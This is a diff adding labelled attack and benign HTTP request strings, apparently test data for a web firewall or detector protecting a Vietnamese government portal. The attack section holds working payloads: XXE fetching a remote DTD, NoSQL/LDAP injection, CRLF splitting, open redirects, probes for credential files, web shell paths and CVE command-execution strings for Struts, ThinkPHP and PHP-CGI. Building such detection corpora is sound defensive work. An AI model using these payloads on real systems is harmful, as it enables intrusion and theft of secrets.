+q:xml=<!DOCTYPE d [<!ENTITY % e SYSTEM "http://203.0.113.9/e.dtd"> %e; %p;]>
+"""),
+("prototype-pollution", "PortSwigger Prototype pollution; Node.js and lodash merge advisories", r"""
+qr:__proto__[isAdmin]=true
+qr:__proto__.polluted=1
+qr:constructor[prototype][admin]=1
+qr:a[__proto__][b]=1
+qr:constructor.prototype.polluted=yes
+q:json={"__proto__":{"isAdmin":true}}
+q:json={"constructor":{"prototype":{"polluted":1}}}
+qr:__pro__proto__to__[x]=1
+qr:%5F%5Fproto%5F%5F%5BtransportUrl%5D=data:,alert(1)
+qr:x=1&__proto__[sourceURL]=%0aalert(1)
+ref:http://portal.example/?__proto__[x]=1
+qr:user[__proto__][role]=admin
+qr:__proto__[toString]=1
+qr:constructor%5Bprototype%5D%5Bjson%20spaces%5D=10
+q:data={"a":{"__proto__":{"shell":"/proc/self/exe"}}}
+qr:__proto__%5Bexec%5D=1
+"""),
+("ldap-xpath-nosql-injection", "OWASP LDAP Injection Prevention Cheat Sheet; OWASP XPath Injection; MongoDB query operators; PortSwigger NoSQL injection", r"""
+q:user=*)(uid=*))(|(uid=*
+q:user=admin)(&)
+q:user=*)(|(password=*)
+q:user=admin*)((|userpassword=*)
+q:user=*)(objectClass=*
+qr:cn=*))%00
+q:user=admin)(!(&(1=0
+q:user=' or name()='username' or 'x'='y
+q:q=' or count(/*)=1 or 'a'='b
+q:q=') or string-length(//user[1]/password)>0 or ('
+q:q=' and substring(//user[position()=1]/password,1,1)='a
+q:q=doc('http://evil.example/x')
+q:q='] | //user/* | a['
+qr:user[$ne]=x&pass[$ne]=x
+qr:user=admin&pass[$gt]=
+qr:user[$regex]=^adm&pass[$ne]=1
+qr:user[%24ne]=1
+q:filter={"$where":"sleep(5000)"}
+q:filter={"username":{"$ne":null},"password":{"$ne":null}}
+q:q=';return true;var a='
+q:q=' && this.password.match(/.*/)//
+q:filter={"$or":[{"a":1},{"b":{"$gt":""}}]}
+qr:user[$exists]=true
+q:q={"$where":"this.role=='admin'"}
+qr:login[$nin][]=admin
+q:user=*)(|(cn=*
+q:user=admin)(|(uid=*))
+"""),
+("crlf-injection", "OWASP CRLF Injection; HTTP response splitting (CWE-113); RFC 9112 field syntax", r"""
+qr:lang=en%0d%0aSet-Cookie:%20session=evil
+qr:next=/%0d%0aLocation:%20http://evil.example
+qr:x=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK
+p:/%0d%0aSet-Cookie:crlf=injection
+p:/%E5%98%8A%E5%98%8DSet-Cookie:crlf=1
+qr:url=%0aX-Injected:1
+qr:x=%250d%250aSet-Cookie:a=b
+qr:lang=vi%0D%0ARefresh:0;url=http://evil.example
+qr:page=1%0d%0a%0d%0a<script>alert(1)</script>
+qr:redirect=%0d%0aX-XSS-Protection:0
+qr:q=%0d%0aAccess-Control-Allow-Origin:%20*
+qr:callback=x%0D%0AContent-Type:text/html
+qr:r=%0d%0aLocation:%20javascript:alert(1)
+"""),
+("open-redirect", "OWASP Unvalidated Redirects and Forwards Cheat Sheet; PortSwigger open redirection", r"""
+q:next=http://evil.example
+q:redirect=//evil.example
+q:url=https://evil.example/login
+q:return=/\evil.example
+q:returnUrl=///evil.example/%2e%2e
+q:continue=https:evil.example
+q:redirect_uri=http://portal.example.evil.example/
+q:next=http://portal.example@evil.example/
+q:goto=javascript:alert(1)//
+qr:dest=%2F%2Fevil.example
+q:redir=\/\/evil.example
+q:r=https://evil.example%23.portal.example
+q:url=http:/\/evil.example
+q:return_to=//evil.example/%2F..
+qr:next=%68%74%74%70%3a%2f%2fevil.example
+q:forward=http://203.0.113.9/
+q:redirect=http://evil.example%2f%2eportal.example
+q:out=http://evil.example/phish
+"""),
+("protocol-abuse", "RFC 9110/9112 (methods, request line, percent-encoding); IIS %u encoding; CWE-158 (null byte)", r"""
+qr:q=%zz
+qr:id=1%u0027
+p:/index.php%00.jpg
+qr:file=x%00.pdf
+m:GET /index.html HTTP/9.9
+m:GET /index.html HTTP/1.1.1
+m:TRACE / HTTP/1.1
+m:TRACK / HTTP/1.1
+m:DEBUG /default.aspx HTTP/1.1
+m:PROPFIND /webdav/ HTTP/1.1
+m:GET /index.html JUNK/1.1
+m:CONNECT evil.example:443 HTTP/1.1
+m:GET http://evil.example/ HTTP/1.1
+m:FOOBAR / HTTP/1.1
+m:MOVE /uploads/a.txt HTTP/1.1
+qr:a=%%32%65
+qr:x=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd
+m:get / HTTP/1.1
+qr:id=%c0%80
+m:PUT /shell.php HTTP/1.1
+m:SEARCH / HTTP/1.1
+m:MKCOL /x/ HTTP/1.1
+m:GET / HTTP/3
+qr:id=12%1
+qr:name=%G0
+m:GET /\x00 HTTP/1.1
+p:/%uff1cscript%uff1ealert(1)
+"""),
+("session-fixation", "OWASP Session Fixation; OWASP Session Management Cheat Sheet", r"""
+qr:PHPSESSID=abcdef1234567890&page=login
+qr:x=1&jsessionid=1234ABCD5678
+qr:ASPSESSIONIDQQGGGNCG=LIBBDGHCIDPOJMKLDPDNGDAF
+qr:ASP.NET_SessionId=abc123def456
+qr:session_id=0123456789abcdef&next=/
+q:x=<script>document.cookie="sessionid=abcd; path=/"</script>
+q:x=<meta http-equiv="Set-Cookie" content="SESSIONID=evil">
+qr:sessionid=ATTACKER0001
+"""),
+("scanner-ua", "Tool documentation and default User-Agent strings (sqlmap, Nikto, Nmap NSE, WPScan, Nuclei, ffuf, gobuster, DirBuster, OpenVAS, w3af, Arachni, commix, Hydra)", r"""
+ua:sqlmap/1.7.2#stable (https://sqlmap.org)
+ua:Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)
+ua:Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
+ua:masscan/1.3 (https://github.com/robertdavidgraham/masscan)
+ua:WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)
+ua:Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
+ua:Fuzz Faster U Fool v2.1.0
+ua:gobuster/3.6
+ua:DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
+ua:Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)
+ua:w3af.org
+ua:Arachni/v1.5.1
+ua:ZmEu
+ua:Morfeus Fucking Scanner
+ua:commix/v3.8
+ua:Mozilla/4.0 (Hydra)
+ua:Wfuzz/3.1.0
+ua:Mozilla/5.0 (compatible; Netsparker)
+ua:Havij
+ua:WhatWeb/0.5.5
+ua:feroxbuster/2.10.0
+ua:Paros/3.2.13
+ua:Mozilla/5.0 (X11; U; Linux i686) Acunetix Web Vulnerability Scanner
+ua:Nessus SOAP v0.0.1 (Nessus.org)
+ua:jaeles
+ua:Mozilla/5.0 zgrab/0.x
+ua:fimap.googlecode.com
+ua:Mozilla/5.0 (compatible; Dirsearch)
+"""),
+("secret-backup-probe", "OWASP WSTG-CONF-04 (old, backup and unreferenced files) and WSTG-CONF-05 (admin interfaces); tool and framework documentation for config file names", r"""
+p:/.env
+p:/.git/config
+p:/.git/HEAD
+p:/.svn/entries
+p:/.svn/wc.db
+p:/.hg/hgrc
+p:/.DS_Store
+p:/.aws/credentials
+p:/.ssh/id_rsa
+p:/.bash_history
+p:/.htpasswd
+p:/.htaccess
+p:/web.config
+p:/wp-config.php.bak
+p:/wp-config.php~
+p:/config.php.old
+p:/.index.php.swp
+p:/backup.zip
+p:/backup.sql
+p:/db.sql
+p:/dump.sql.gz
+p:/site.tar.gz
+p:/www.zip
+p:/database.sqlite
+p:/phpinfo.php
+p:/info.php
+p:/server-status
+p:/server-info
+p:/phpmyadmin/
+p:/pma/index.php
+p:/adminer.php
+p:/administrator/index.php
+p:/wp-admin/setup-config.php
+p:/manager/html
+p:/jmx-console/
+p:/actuator/env
+p:/actuator/heapdump
+p:/.vscode/sftp.json
+p:/.idea/workspace.xml
+p:/config/database.yml
+p:/.npmrc
+p:/.docker/config.json
+p:/docker-compose.yml
+p:/.gitlab-ci.yml
+p:/appsettings.json
+p:/credentials.json
+p:/sftp-config.json
+p:/.circleci/config.yml
+p:/elmah.axd
+p:/trace.axd
+p:/console/login/LoginForm.jsp
+p:/_profiler/phpinfo
+p:/telescope/requests
+p:/.env.production
+p:/api/.env
+p:/.git/logs/HEAD
+p:/storage/logs/laravel.log
+p:/wp-content/debug.log
+p:/.terraform/terraform.tfstate
+p:/id_rsa
+p:/config.inc.php.save
+p:/web.config.bak
+p:/.kube/config
+"""),
+("webshell", "Web shell write-ups (c99, r57, WSO, b374k, China Chopper, ProxyShell drop paths); OWASP Unrestricted File Upload", r"""
+p:/uploads/shell.php?cmd=id
+p:/c99.php
+p:/r57.php
+p:/wso.php
+p:/b374k.php
+p:/images/cmd.asp?cmd=dir
+p:/cmd.jsp?cmd=whoami
+p:/uploads/x.php?c=system('id');
+p:/alfa.php
+p:/shell.aspx
+p:/aspnet_client/system_web/x.aspx
+p:/indoxploit.php
+p:/wp-content/plugins/hello.php?cmd=ls
+p:/uploads/avatar.php.jpg
+p:/1.asp;.jpg
+p:/uploads/x.phtml
+p:/upload/x.php5
+p:/uploads/2026/12/up.php?pass=123&act=upload
+p:/images/s.jsp?pwd=023&i=whoami
+p:/wso2.php?a=FilesMan
+"""),
+("cve-exploit", "Vendor advisories and CVE write-ups: ProxyShell, Spring4Shell, Struts (S2-045/S2-057), Confluence OGNL (CVE-2021-26084, CVE-2022-26134), ThinkPHP, Drupalgeddon2, PHPUnit, PHP-CGI (CVE-2012-1823, CVE-2024-4577), Laravel Ignition, vCenter, Tomcat PUT", r"""
+p:/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example
+p:/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com
+qr:class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di
+p:/?class.module.classLoader.URLs%5B0%5D=0
+p:/struts2-showcase/%24%7B233*233%7D/actionChain1.action
+p:/index.action?redirect:${#a=new java.lang.ProcessBuilder({'id'}).start()}
+q:x=%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
+p:/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/
+qr:queryString=aaa%5Cu0027%2b%23%7B%5Cu0022%5Cu0022%5B%5Cu0022class%5Cu0022%5D.forName(%5Cu0022javax.script.ScriptEngineManager%5Cu0022)%7D%2b%5Cu0027
+p:/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id
+qr:mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id
+p:/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
+p:/_ignition/execute-solution
+p:/ui/vropspluginui/rest/services/uploadova
+p:/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
+p:/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
+m:PUT /shell.jsp/ HTTP/1.1
+p:/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)
+p:/GponForm/diag_Form?images/
+p:/solr/admin/cores?action=CREATE&name=x&instanceDir=../../../../etc
+p:/actuator/gateway/routes
+p:/mifs/.;/services/LogService
+p:/cgi-bin/admin.cgi?Command=sysCommand&Cmd=id
+p:/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1
+"""),
+]
+
+BENIGN = [
+("search-sql-words", "ordinary searches and form values that contain SQL keywords, quotes and operators (portal search logs, forum posts)", r"""
+q:q="select all" products
+q:q=union of workers in Hanoi
+q:q=drop shipping business plan
+q:q=Order by date please
+q:q=rock 'n' roll
+q:q=1=1 meaning in math
+q:q=cat and dog
+q:q=or else what
+q:q=where is the office
+q:q=insert coin
+q:q=update my address
+q:q=delete account
+q:q=select a province from the list
+q:q=table of contents
+q:q=the union select committee
+q:q=sleep apnea clinic
+q:q=benchmark results 2026
+q:q=Romeo and Juliet
+q:q=either/or
+q:q="hello world"
+q:q='quoted'
+q:q=it's 5 o'clock
+q:q=don't stop
+q:q=group by age
+q:q=having fun in Da Nang
+q:q=exec summary template
+q:q=system administrator job
+q:q=password reset
+q:q=alert system for flooding
+q:q=execute order 66
+q:q=evaluation of staff
+q:q=javascript tutorial
+q:q=java script course
+q:q=how to declare a variable
+q:q=case when it rains
+q:q=null and void
+q:q=true or false quiz
+q:q=1 or 2 bedrooms
+q:q=yes or no
+q:q=waitfor the bus
+q:q=version 2.0 or later
+q:q=from A to Z
+q:q=count down 10 9 8
+q:q=if now then later
+q:q=char siu recipe
+q:q=convert pdf to word
+q:q=concat strings python
+q:q=substring of a word
+q:q=like and share
+q:q=and/or conditions
+q:q=ORDER 2026-0001
+q:q=select * from menu
+q:q=user admin guide
+q:q=--help
+q:q=A+ grade
+q:q=C# tutorial
+q:q=C++ reference
+q:q=50% off
+q:q=100% cotton
+q:q=R&D department
+q:q=Tom & Jerry
+q:q=#hashtag
+q:q=where=home
+q:q=x = y + 1
+q:q=a<b
+q:q=I <3 Hue
+q:q=1 < 2 and 3 > 2
+q:q=<3
+q:q=email me at a.b@example.com
+q:q=O'Reilly books
+q:q=don't drop the ball
+q:q=the "best" phở
+q:q=#1 priority
+q:q=price > 100
+q:q=sum of (2+3)*4
+"""),
+("vietnamese", "Vietnamese public-service portal searches and form values (UTF-8, URL-encoded as browsers send them)", r"""
+q:q=thủ tục cấp giấy phép xây dựng
+q:q=đăng ký kết hôn
+q:q=cấp lại căn cước công dân
+q:q=hộ khẩu thường trú
+q:q=giấy khai sinh bản sao
+q:q=lệ phí trước bạ ô tô
+q:q=tra cứu hồ sơ đất đai
+q:q=Sở Tư pháp tỉnh Quảng Ninh
+q:q=UBND xã Tân Phú
+q:q=đổi giấy phép lái xe
+q:ten=Nguyễn Văn Ánh
+q:ten=Trần Thị Hồng Nhung
+q:dia_chi=Số 12, ngõ 34, phố Hàng Bông, Hoàn Kiếm, Hà Nội
+q:ly_do=Xin cấp lại do bị mất (ví)
+q:noi_dung=Tôi muốn hỏi: thủ tục "chuyển nhượng" mất bao lâu?
+q:q=bảo hiểm xã hội một lần
+q:q=thuế thu nhập cá nhân 2026
+q:q=đất nông nghiệp & đất ở
+q:q=phường 1; quận 3
+q:q=giấy phép kinh doanh - hộ cá thể
+q:ghi_chu=Gọi trước 30' khi đến
+q:q=chứng thực chữ ký
+q:q=cư trú tạm trú
+q:q=trợ cấp thất nghiệp
+q:q=học bổng sinh viên
+q:q=quy hoạch sử dụng đất 2021-2030
+q:q=Điện Biên Phủ
+q:q=tỉnh Bà Rịa – Vũng Tàu
+q:q=mã số thuế 0101234567
+q:q=số CCCD 001099012345
+"""),
+("structured-values", "JSON, GraphQL, base64/JWT tokens, arrays and filters that APIs put in query strings", r"""
+q:filter={"status":"approved","page":2}
+q:data={"ids":[1,2,3]}
+q:token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c
+q:state=YWJjZGVmZ2hpamtsbW5vcA==
+q:code=4/0AeanS0abcDEFghiJKLmnoPQRstuVWXyz
+q:query={ user(id: 1) { name email } }
+q:q=status:active AND type:(a OR b)
+qr:ids[]=1&ids[]=2&ids[]=3
+qr:filter[status]=1&filter[province]=HN
+qr:sort=-created_at&fields[]=name&fields[]=email
+q:where={"createdAt":{"gte":"2026-01-01"}}
+q:opts={"limit":10,"offset":20,"order":["name","ASC"]}
+q:cursor=eyJpZCI6MTIzNH0=
+q:sig=3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b
+q:hash=d41d8cd98f00b204e9800998ecf8427e
+q:session_state=abc.def-123
+q:nonce=n-0S6_WzA2Mj
+q:SAMLRequest=fZJNT8MwDIbv/IrK9zZpx9ejdhJiQkwCUbHCgVuaultQm5Q4HfDvacfGuMDB
+q:RelayState=/dvc/trang-chu
+q:callback=jQuery3510_1733560000000
+q:_=1733560000000
+q:v=20261207.1
+q:hl=vi&gl=VN
+q:fields=id,name,address
+q:expand=owner.profile
+q:include=author,comments
+q:select=id,title,created
+q:$filter=Name eq 'Ha Noi' and Status ne 'closed'
+q:$orderby=CreatedDate desc
+q:$top=50
+q:$select=Id,Title
+q:format=json
+q:lat=21.0285&lng=105.8542
+q:bbox=105.7,20.9,105.9,21.1
+q:color=#ff8800
+q:range=bytes=0-1023
+q:tz=Asia/Ho_Chi_Minh
+q:date=07/12/2026
+q:from=2026-01-01T00:00:00Z
+q:price=$100
+q:amount=1,000,000 VND
+"""),
+("tracking-and-auth", "marketing tracking parameters, OAuth/SSO redirects to the portal itself, e-mail and phone values", r"""
+qr:utm_source=facebook&utm_medium=cpc&utm_campaign=dvc_2026&utm_content=banner-1
+qr:fbclid=IwAR2abcDEF123_ghiJKL456
+qr:gclid=Cj0KCQiA6Or_BRC_ARIsAPzuer_abc
+qr:zarsrc=30&utm_source=zalo&utm_medium=zalo&utm_campaign=zalo
+qr:_ga=2.123456789.987654321.1733560000-1234567890.1733560000
+qr:mc_cid=abc123&mc_eid=def456
+q:email=nguyen.van.a@gmail.com
+q:email=o'brien@example.com
+q:email=first.last+portal@example.com.vn
+q:phone=+84 912 345 678
+q:phone=(024) 3825 1234
+q:name=O'Brien
+q:name=D'Angelo
+q:name=Jean-Luc Picard
+q:name=Mary-Kate O'Neil
+q:returnUrl=/dvc/ho-so/cua-toi
+q:ReturnUrl=/Account/Manage
+q:next=/dashboard
+q:redirect=/vi/trang-chu
+p:/oauth/authorize?response_type=code&client_id=dvc&redirect_uri=https%3A%2F%2Fdichvucong.example.gov.vn%2Fcallback&scope=openid%20profile&state=xyz
+p:/sso/login?service=https%3A%2F%2Fmotcua.example.gov.vn%2F
+q:lang=vi
+q:locale=en_US
+q:ref=homepage
+q:source=newsletter
+q:affiliate=abc-123
+"""),
+("odd-but-legit-text", "forum posts, comments and feedback forms with code, math, punctuation and markup-like text", r"""
+post:body=for (i = 0; i < n; i++) { sum += a[i]; }
+post:body=printf("%d items", count);
+post:comment=Great service!!! Thanks :)
+post:comment=5/5 would recommend ;-)
+post:comment=The form at step #3 fails - please fix!
+post:comment=Use ctrl+c / ctrl+v to copy
+post:body=if (a > b) return a; else return b;
+post:body=x^2 + y^2 = z^2
+post:body=E = mc^2
+post:body=2 * (3 + 4) = 14
+post:body=My path is C drive then Documents
+post:body=See https://www.example.gov.vn/van-ban/123 for details
+post:body=The answer is 42; the question is unknown.
+post:body=Cost: $5 (approx.) | Time: 2h
+post:body=Use the <b>bold</b> tag for emphasis
+post:body=Email: support@example.gov.vn; Tel: 1900 1234
+post:feedback=Nhân viên rất nhiệt tình :) 10/10
+post:feedback=Website chậm quá... mong cải thiện!
+post:body=git commit -m "fix typo"
+post:body=npm install --save lodash
+post:body=def f(x): return x * 2
+post:body=SELECT is a keyword in SQL
+post:body=I love the new design <3
+post:body=~/Documents/report.docx
+post:body=array[0] = 1
+post:body=user@host:~$ ls
+post:body=He said "OK" & left
+post:body=#include <stdio.h>
+post:body=The regex ^[a-z]+$ matches words
+post:body={name} is a placeholder
+post:body=x != y
+post:body=a || b
+post:body=a && b
+post:body=price: 10-20% off
+post:body=(see section 4.2)
+post:body=Q&A session at 9:00
+post:body=Mr. Smith's office
+post:body=ok; thanks
+post:body=1/2 + 1/3 = 5/6
+"""),
+("ordinary-paths", "ordinary portal, CMS and static asset requests, well-known URIs (RFC 8615), methods of REST APIs", r"""
+p:/
+p:/favicon.ico
+p:/robots.txt
+p:/sitemap.xml
+p:/.well-known/security.txt
+p:/.well-known/acme-challenge/Xyz_AbC-123
+p:/.well-known/openid-configuration
+p:/static/js/app.min.js?v=3.2.1
+p:/static/css/main.7f3a9c.css
+p:/images/logo.png
+p:/assets/fonts/Roboto-Regular.woff2
+p:/wp-content/themes/twentytwentyfour/style.css?ver=1.2
+p:/wp-includes/js/jquery/jquery.min.js?ver=3.7.1
+p:/wp-json/wp/v2/posts?per_page=10
+p:/dvc/thu-tuc-hanh-chinh/chi-tiet/1.001234
+p:/tin-tuc/2026/12/07/thong-bao-nghi-le.html
+p:/van-ban/quyet-dinh-so-123/qd-ubnd.pdf
+p:/download/bieu-mau-01.docx
+p:/api/v1/hoso/2026-001234/trang-thai
+p:/portal/page/portal/home
+p:/Default.aspx?tabid=123&mid=456
+p:/index.php?option=com_content&view=article&id=12&Itemid=101
+p:/index.php/component/content/article/12
+p:/cgi-bin/awstats.pl?config=portal
+p:/news/detail.aspx?ID=2026
+p:/app/report.jsp?reportId=77&format=pdf
+p:/page.do?method=view&id=5
+p:/search?q=ha+noi
+p:/api/v2/users/me
+p:/login
+p:/logout
+p:/register
+p:/account/forgot-password
+p:/admin-guide.html
+p:/huong-dan/su-dung-chu-ky-so.pdf
+p:/files/bao-cao_Q3-2026%20(final).xlsx
+p:/images/anh%20dai%20dien.jpg
+p:/tra-cuu/ket-qua?ma_ho_so=000.00.01.H01-261207-0001
+p:/api/v1/provinces/01/districts
+p:/feed/rss.xml
+p:/manifest.json
+p:/sw.js
+p:/apple-touch-icon.png
+p:/ads.txt
+p:/humans.txt
+p:/static/img/banner@2x.png
+p:/static/js/vendor~main.chunk.js
+p:/en/about-us
+p:/vi/gioi-thieu
+p:/user/profile/edit
+p:/index.php?route=product/category&path=20_27
+p:/catalog/view/theme/default/stylesheet/stylesheet.css
+m:POST /api/login HTTP/1.1
+m:PUT /api/v1/hoso/123 HTTP/1.1
+m:DELETE /api/v1/draft/9 HTTP/1.1
+m:PATCH /api/v1/users/me HTTP/1.1
+m:OPTIONS /api/v1/hoso HTTP/1.1
+m:HEAD / HTTP/1.1
+m:GET /index.html HTTP/2.0
+m:GET /api/v1/hoso HTTP/2.0
+m:GET / HTTP/1.0
+m:POST /graphql HTTP/2.0
+"""),
+("user-agents-referers", "ordinary browsers, crawlers, monitoring agents, and referers from search engines and social networks", r"""
+ua:Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
+ua:Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
+ua:Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)
+ua:facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
+ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/121.0.0 Chrome/115.0.0.0 Safari/537.36
+ua:Mozilla/5.0 (Linux; Android 13; Redmi Note 12) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 Zalo/24.10
+ua:kube-probe/1.29
+ua:Prometheus/2.48.0
+ua:Uptime-Kuma/1.23.11
+ua:Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)
+ua:Wget/1.21.4
+ua:curl/8.5.0
+ua:okhttp/4.12.0
+ua:Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)
+ua:Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1
+ua:Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)
+ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0
+ua:Apache-HttpClient/4.5.14 (Java/17.0.9)
+ua:Java/1.8.0_392
+ua:axios/1.6.2
+ua:Go-http-client/2.0
+ua:python-requests/2.31.0
+ua:PostmanRuntime/7.36.0
+ua:Microsoft Office Word 2014
+ua:Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)
+ua:Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
+ua:Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
+ua:Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/444.0.0.0;]
+ua:Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0
+ua:-
+ref:https://www.google.com/search?q=dich+vu+cong+truc+tuyen&oq=dich+vu+cong&sourceid=chrome&ie=UTF-8
+ref:https://www.google.com.vn/url?sa=t&rct=j&q=&esrc=s&source=web&cd=1&url=https%3A%2F%2Fdichvucong.example.gov.vn%2F
+ref:https://www.facebook.com/
+ref:https://l.facebook.com/l.php?u=https%3A%2F%2Fportal.example.gov.vn%2Ftin-tuc&h=AT0abc
+ref:https://zalo.me/g/abcdef123
+ref:https://coccoc.com/search?query=th%E1%BB%A7+t%E1%BB%A5c+h%C3%A0nh+ch%C3%ADnh
+ref:https://www.bing.com/search?q=%22c%C3%B4ng+an+t%E1%BB%89nh%22+tuy%E1%BB%83n+d%E1%BB%A5ng
+ref:https://portal.example.gov.vn/dvc/thu-tuc-hanh-chinh?page=2
+ref:android-app://com.google.android.gm/
+ref:https://t.co/AbCdEf123
+ref:https://mail.google.com/
+ref:https://duckduckgo.com/?q=select+provinces+vietnam&ia=web
+"""),
+("encoded-but-benign", "percent-encoded and double-encoded values that browsers and proxies send, file names with spaces and parentheses, long tokens", r"""
+qr:q=%E1%BB%A7y%20ban
+qr:file=report%20(1).pdf
+qr:path=%2Fdvc%2Fho-so%2F2026
+qr:returnUrl=%252Fdvc%252Ftrang-chu
+qr:name=Nguy%E1%BB%85n%20V%C4%83n%20A
+qr:q=C%2B%2B
+qr:q=50%25
+qr:q=a%2Bb%3Dc
+qr:q=%22exact%20phrase%22
+qr:title=T%C3%ACm%20ki%E1%BA%BFm%3A%20%E2%80%9Cvi%E1%BB%87c%20l%C3%A0m%E2%80%9D
+qr:emoji=%F0%9F%98%80
+qr:q=caf%C3%A9
+qr:q=na%C3%AFve
+qr:sig=a%2Fb%2Bc%3D%3D
+qr:data=eyJ0eXBlIjoiY2xpY2siLCJ4IjoxMjMsInkiOjQ1Nn0%3D
+qr:q=%28cau%20hoi%29
+qr:file=C%3A%5Cfakepath%5Cscan.pdf
+qr:q=%5Bin%20progress%5D
+qr:tags=a%2Cb%2Cc
+qr:q=%3Cnone%3E
+"""),
+]
